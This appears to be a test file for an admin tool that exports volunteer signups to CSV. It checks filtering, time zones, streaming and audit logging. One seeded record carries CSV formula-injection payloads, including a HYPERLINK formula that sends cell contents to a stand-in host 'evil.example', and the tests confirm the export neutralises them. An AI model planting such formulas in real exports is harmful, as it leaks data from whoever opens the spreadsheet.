import { beforeAll, describe, expect, it } from "vitest";
import { EXPORT_BATCH, exportSignups } from "../../lib/admin/signup-export";
import { parseSignupView } from "../../lib/admin/signup-view";
import type { StaffContext } from "../../lib/auth/staff-session";
import type { Db } from "../../lib/db/client";
import { getStaffMessages } from "../../lib/messages";
import { readCsv } from "../support/csv";
import { seedSignup, signedInStaff, signupRow } from "../support/list-signups";
import { sampleFields } from "../support/signup-samples";
import { staffAuthDatabase } from "../support/staff-auth";

const current = staffAuthDatabase();
let db: Db;
let reviewer: StaffContext;
const id: Record<string, string> = {};
const MARCH = "from=2026-03-01&to=2026-03-31";
const BULK = EXPORT_BATCH + 50;

const view = (query: string) => parseSignupView(new URLSearchParams(query));

async function download(query: string) {
  const { fileName, body } = exportSignups(
    db,
    reviewer,
    view(query),
    getStaffMessages(),
    new Date("2026-11-28T08:00:00Z"),
  );
  const { hasBom, rows } = readCsv(new Uint8Array(await new Response(body).arrayBuffer()));
  const [header, ...records] = rows;
  return { fileName, hasBom, header: header!, records };
}

const lastExport = async () =>
  db.auditEvent.findFirst({
    where: { action: "signups_exported" },
    orderBy: { id: "desc" },
    select: { actorId: true, detail: true },
  });

beforeAll(async () => {
  ({ db } = current());
  reviewer = await signedInStaff(current().deps, "exporter@example.org");
  const base = sampleFields("attorney");
  id.A = await seedSignup(db, {
    role: "attorney",
    createdAt: new Date("2026-03-02T10:00:00Z"),
    assigneeId: reviewer.userId,
    fields: { firstName: "Zoë", lastName: "Nuñez 李", email: "zoe@example.com" },
  });
  // Zoë's status changed on March 7 and she has two notes, the newer one written on the
  // evening of March 9 in Denver, already March 10 in UTC.
  await db.signup.update({
    where: { id: id.A },
    data: { statusChangedAt: new Date("2026-03-07T18:30:00Z") },
  });
  for (const [n, at] of ["2026-03-08T05:00:00Z", "2026-03-10T03:00:00Z"].entries())
    await db.signupNote.create({
      data: {
        id: `00000000-0000-4000-8000-00000000000${n}`,
        signupId: id.A,
        authorId: reviewer.userId,
        body: `note ${n}`,
        createdAt: new Date(at),
      },
    });
  id.B = await seedSignup(db, {
    role: "attorney",
    createdAt: new Date("2026-03-03T10:00:00Z"),
    status: "contacted",
    fields: { firstName: "Ben", lastName: "Okafor", email: "ben@example.com", availability: ["in_person"] },
  });
  // Payloads no form accepts, written straight into the answers as an attacker would hope to.
  id.P = await seedSignup(db, {
    role: "attorney",
    createdAt: new Date("2026-03-04T10:00:00Z"),
    fields: { firstName: "Pay", lastName: "Load", email: "payload@example.com" },
    answers: {
      ...(signupRow({ role: "attorney", fields: base }).answers as Record<string, unknown>),
      firstName: '  =HYPERLINK("http://evil.example/?"&A1,"Click")',
      lastName: "\t@SUM(1+1)",
      city: " -1+2",
      state: "\r+cmd",
    },
  });
  id.C = await seedSignup(db, {
    role: "medical",
    createdAt: new Date("2026-03-05T10:00:00Z"),
    fields: { firstName: "Carla", lastName: "Reyes", email: "carla@example.com" },
  });
  id.D = await seedSignup(db, {
    role: "interpreter",
    createdAt: new Date("2026-03-06T10:00:00Z"),
    fields: { firstName: "Eli", lastName: "Tum", email: "eli@example.com" },
  });
  await db.signup.createMany({
    data: Array.from({ length: BULK }, (_, i) =>
      signupRow({
        role: "medical",
        n: i,
        status: "inactive",
        createdAt: new Date(Date.UTC(2025, 0, 1, 0, Math.floor(i / 7))),
        fields: { firstName: "Bulk", lastName: `Row ${i}`, email: `bulk.${i}@example.com` },
      }),
    ),
  });
});

describe("the export", () => {
  it("holds exactly the filtered rows, with every answer, and records who, what filter and how many", async () => {
    const { fileName, hasBom, header, records } = await download(`${MARCH}&role=attorney&q=o`);
    expect(fileName).toBe("signups-2026-11-28.csv");
    expect(hasBom).toBe(true);
    // "o" is in Zoë's, Okafor's and Load's names (and everyone's example.com); newest first.
    expect(records.map((r) => r[0])).toEqual([id.P, id.B, id.A]);
    expect(header.slice(0, 11)).toEqual([
      "ID",
      "Role",
      "Status",
      "Status changed (America/Denver)",
      "Assignee",
      "Notes",
      "Last note (America/Denver)",
      "Signed up (America/Denver)",
      "First name",
      "Last name",
      "Email",
    ]);
    expect(header).not.toContain("Profession");
    const zoe = records[2]!;
    const cell = (label: string) => zoe[header.indexOf(label)];
    expect(zoe.slice(0, 11)).toEqual([
      id.A,
      "Attorney",
      "New",
      "2026-03-07 11:30:00", // 18:30 UTC, in Denver (MST)
      "exporter@example.org",
      "2",
      "2026-03-09", // 03:00 UTC on the 10th is 21:00 on the 9th in Denver (MDT since the 8th)
      "2026-03-02 03:00:00", // 10:00 UTC, in Denver (MST)
      "Zoë",
      "Nuñez 李",
      "zoe@example.com",
    ]);
    expect(cell("Bar admissions")).toBe(
      "Jurisdiction: New Mexico; Bar number: NM-12345; Year admitted: 2015",
    );
    expect(cell("Cases/year")).toBe("3");
    expect(cell("How they help")).toBe("Remote, Detention visits");
    expect(cell("Languages")).toBe("Spanish: fluent");
    const ben = records[1]!;
    expect([3, 5, 6].map((at) => ben[at])).toEqual(["", "0", ""]);
    expect(zoe).toHaveLength(header.length);
    // Every answer filled in; after them her readiness and her steps, none done.
    const readinessAt = header.indexOf("Readiness");
    expect(zoe.slice(0, readinessAt).filter((value) => value === "")).toEqual([]);
    expect(zoe[readinessAt]).toBe("5 steps left");
    expect(zoe.slice(readinessAt + 1)).toEqual(["", "", "", "", ""]);

    expect(await lastExport()).toEqual({
      actorId: reviewer.userId,
      detail: {
        filter: { role: "attorney", from: "2026-03-01", to: "2026-03-31", sort: "newest", search: true },
        rows: 3,
        isComplete: true,
      },
    });
  });

  it("neutralises formulas written into the answers, after trimming leading whitespace", async () => {
    const { header, records } = await download(`${MARCH}&q=payload`);
    const [row] = records;
    const cell = (label: string) => row![header.indexOf(label)];
    expect(cell("First name")).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
    expect(cell("Last name")).toBe("'@SUM(1+1)");
    expect(cell("City")).toBe("'-1+2");
    expect(cell("State")).toBe("'+cmd");
  });

  it("takes every role's questions when the filter allows several roles", async () => {
    const { header, records } = await download(`${MARCH}&status=new`);
    expect(records.map((r) => r[0])).toEqual([id.D, id.C, id.P, id.A]);
    expect(header).toEqual(expect.arrayContaining(["Attorney status", "Profession", "Language pairs"]));
    const interpreter = records[0]!;
    expect(interpreter[header.indexOf("Attorney status")]).toBe("");
    expect(interpreter[header.indexOf("Languages (interpreting)")]).toBe(
      "K'iche' (Nahualá): native speaking, conversational writing\nSpanish: fluent speaking, fluent writing",
    );
    expect(interpreter[header.indexOf("Profession")]).toBe("");
    expect(interpreter[header.indexOf("Services")]).toBe(
      "Consecutive interpreting, Phone or video interpreting",
    );
  });

  it("streams past a batch: every row once, in order, counted", async () => {
    const { records } = await download("sort=oldest");
    const expected = await db.signup.findMany({
      orderBy: [{ createdAt: "asc" }, { id: "asc" }],
      select: { id: true },
    });
    expect(records).toHaveLength(BULK + 5);
    expect(records.map((r) => r[0])).toEqual(expected.map((row) => row.id));
    expect((await lastExport())?.detail).toEqual({
      filter: { sort: "oldest", search: false },
      rows: BULK + 5,
      isComplete: true,
    });
  });

  it("records a download cut short, with the rows read so far", async () => {
    const { body } = exportSignups(db, reviewer, view("status=inactive"), getStaffMessages());
    const reader = body.getReader();
    await reader.read();
    await reader.cancel();
    await expect
      .poll(async () => (await lastExport())?.detail as { isComplete?: boolean } | undefined)
      .toMatchObject({ filter: { status: "inactive" }, isComplete: false });
    const { rows } = (await lastExport())!.detail as { rows: number };
    expect(rows).toBeGreaterThan(0);
    expect(rows).toBeLessThan(BULK);
  });

  it("keeps the search text and every personal field out of the audit log", async () => {
    await download(`q=${encodeURIComponent("Zoë Nuñez")}`);
    const all = JSON.stringify(await db.auditEvent.findMany({ select: { detail: true, subject: true } }));
    for (const personal of ["Zoë", "Nuñez", "zoe@example.com", "Okafor"]) expect(all).not.toContain(personal);
  });
});
